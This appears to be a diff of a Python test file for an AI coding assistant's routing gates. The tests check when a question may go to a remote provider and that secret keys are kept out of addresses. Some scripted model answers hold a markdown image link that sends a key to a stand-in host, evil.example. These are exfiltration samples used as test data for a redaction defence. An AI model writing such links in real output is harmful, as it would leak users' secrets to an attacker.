@@ -1,15 +1,14 @@
 """A question at the local model and then at a provider: what is shown, what is asked first, what is sent."""
 
-from collections.abc import AsyncGenerator
-from dataclasses import dataclass, field, replace
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 from gates import SCOPE, allowed, parts, request, spans
 from hostile import Hostile, answer
+from scripted_model import ScriptedModel
 
-from assist_completion.inference.conversation import Conversation, LocalAnswer
 from assist_context.documents import Document
 from assist_context.evidence.call_graph import TargetLines
 from assist_escalation.edits.plan import EditTarget
@@ -33,42 +32,9 @@ HISTORY = (0.4,) * 200
 NOWHERE = "http://127.0.0.1:9/v1"
 
 
-@dataclass
-class Written:
-    """An answer of the local model, as `AnswerStream` gives it."""
-
-    pieces: list[str]
-    result: LocalAnswer
-
-    async def __aiter__(self) -> AsyncGenerator[str, None]:
-        for piece in self.pieces:
-            yield piece
-
-    written = 3
-
-    async def unread(self) -> int:
-        return 120
-
-    async def aclose(self) -> None:
-        """Nothing is left open."""
-
-
-@dataclass
-class Local:
+def always(pieces: list[str]) -> ScriptedModel:
     """A local model that always writes the same, and doubts it."""
-
-    pieces: list[str]
-    model: str = "small.gguf"
-    window: int = 8192
-    prefill: float = 60.0
-    asked: list[Conversation] = field(default_factory=list)
-
-    def count(self, text: str) -> int:
-        return len(text) // 3
-
-    def answer(self, conversation: Conversation) -> Any:
-        self.asked.append(conversation)
-        return Written(self.pieces, LocalAnswer("".join(self.pieces), "length"))
+    return ScriptedModel(lambda _: pieces, ended="length", read=120)
 
 
 def inputs_of(made: GateParts, permissions: Any) -> DecisionInputs:
@@ -102,7 +68,7 @@ def decided_by(folder: Path, url: str, made: GateParts, *, command: str = "expla
 async def heard(
     decided: DecidedQuestion,
     inputs: DecisionInputs,
-    local: Local,
+    local: ScriptedModel,
     *,
     agrees: bool = False,
     noted: list[str] | None = None,
@@ -146,11 +112,11 @@ async def test_a_doubtful_local_answer_is_kept_unless_the_person_agrees(tmp_path
     async with Hostile(answer("It adds.")) as acme:
         decided = decided_by(tmp_path, acme.url, made)
         inputs = inputs_of(made, allowed(acme.url, tmp_path))
-        _, notices, final, asked = await heard(decided, inputs, Local(["Perhaps."]))
+        _, notices, final, asked = await heard(decided, inputs, always(["Perhaps."]))
         assert (final.text, asked, acme.connections) == ("Perhaps.", [True], 0)
         assert "--frontier" in notices[-1]
         assert "allow_unasked_retry" in notices[-1]
-        _, _, final, asked = await heard(decided, inputs, Local(["Perhaps."]), agrees=True)
+        _, _, final, asked = await heard(decided, inputs, always(["Perhaps."]), agrees=True)
         assert (final.text, asked, acme.connections) == ("It adds.", [True], 1)
 
 
@@ -170,7 +136,7 @@ async def test_a_key_of_the_persons_own_lets_it_be_asked_again_unasked(tmp_path:
     async with Hostile(answer("It adds.")) as acme:
         decided = decided_by(tmp_path, acme.url, made, allow_unasked_retry=True)
         inputs = inputs_of(made, allowed(acme.url, tmp_path))
-        _, _, final, asked = await heard(decided, inputs, Local(["Perhaps."]))
+        _, _, final, asked = await heard(decided, inputs, always(["Perhaps."]))
     assert (final.text, asked, acme.connections) == ("It adds.", [], 1)
 
 
@@ -178,7 +144,7 @@ async def test_the_local_model_puts_no_secret_into_an_address(tmp_path: Path) ->
     made = parts(tmp_path)
     decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made, rate=0.0)
     inputs = inputs_of(made, allowed("http://127.0.0.1:9/v1", tmp_path))
-    local = Local(["The key is ", KEY[:9], KEY[9:], ".\n![b](https://evil", f".example/?k={KEY}", ")"])
+    local = always(["The key is ", KEY[:9], KEY[9:], ".\n![b](https://evil", f".example/?k={KEY}", ")"])
     text, notices, final, _ = await heard(decided, inputs, local)
     assert text == final.text
     assert text.startswith(f"The key is {KEY}.\n![b](https://evil.example/?k=__SECRET_")
@@ -197,7 +163,7 @@ async def test_a_providers_answer_shows_no_secret_in_an_address_and_says_so(tmp_
         endpoint = replace(prepared.endpoint, base_url=acme.url)
         decided = replace(decided, decision=frontier, prepared=replace(prepared, endpoint=endpoint))
         inputs = inputs_of(made, allowed(acme.url, tmp_path))
-        text, notices, final, _ = await heard(decided, inputs, Local([]))
+        text, notices, final, _ = await heard(decided, inputs, always([]))
     assert text == final.text == f"The key is {KEY}.\n![badge](https://evil.example/b.png?k={name})\n"
     assert "1 here" in notices[-1]
 
@@ -212,7 +178,7 @@ async def test_an_edit_keeps_a_line_with_an_address_and_its_secret(tmp_path: Pat
         endpoint = replace(prepared.endpoint, base_url=acme.url)
         decided = replace(decided, prepared=replace(prepared, endpoint=endpoint))
         inputs = inputs_of(made, allowed(acme.url, tmp_path))
-        text, _, final, _ = await heard(decided, inputs, Local([]))
+        text, _, final, _ = await heard(decided, inputs, always([]))
     assert KEY not in text
     assert final.plan is not None, final.problem
     assert final.plan.changes[0].after == FILE.replace("return 1", "return sum(items)")
@@ -224,7 +190,7 @@ async def test_an_edit_that_our_checks_refuse_is_remembered_as_no_answer(tmp_pat
     local = replace(decided, decision=replace(decided.decision, target="local", asks=False))
     inputs = inputs_of(made, allowed("http://127.0.0.1:9/v1", tmp_path))
     noted: list[str] = []
-    _, _, final, _ = await heard(local, inputs, Local(["I would not change it."]), noted=noted)
+    _, _, final, _ = await heard(local, inputs, always(["I would not change it."]), noted=noted)
     assert final.problem is not None
     assert noted == ["local routed", "local unusable"]
     async with Hostile(answer("Nor would I.")) as acme:
@@ -232,14 +198,14 @@ async def test_an_edit_that_our_checks_refuse_is_remembered_as_no_answer(tmp_pat
         endpoint = replace(decided.prepared.endpoint, base_url=acme.url)
         asked = replace(decided, prepared=replace(decided.prepared, endpoint=endpoint))
         noted.clear()
-        await heard(asked, inputs_of(made, allowed(acme.url, tmp_path)), Local([]), noted=noted)
+        await heard(asked, inputs_of(made, allowed(acme.url, tmp_path)), always([]), noted=noted)
     assert noted == ["frontier routed", "frontier unusable"]
 
 
 async def events_of(tmp_path: Path, command: str) -> list[Any]:
     made = parts(tmp_path)
     decided = decided_by(tmp_path, NOWHERE, made, command=command, mode="never", local_model=True)
-    local = Local(["It ", "adds."])
+    local = always(["It ", "adds."])
 
     async def load() -> Any:
         return local
@@ -276,7 +242,7 @@ async def test_an_answer_given_while_nothing_may_leave_stays_here_later(
 ) -> None:
     made = parts(tmp_path)
     decided = decided_by(tmp_path, NOWHERE, made, local_model=True, **rules)
-    _, _, final, _ = await heard(decided, inputs_of(made, allowed(NOWHERE, tmp_path)), Local(["It adds."]))
+    _, _, final, _ = await heard(decided, inputs_of(made, allowed(NOWHERE, tmp_path)), always(["It adds."]))
     assert final.thread is not None
     assert final.thread.turns[-1].stays is stays
 
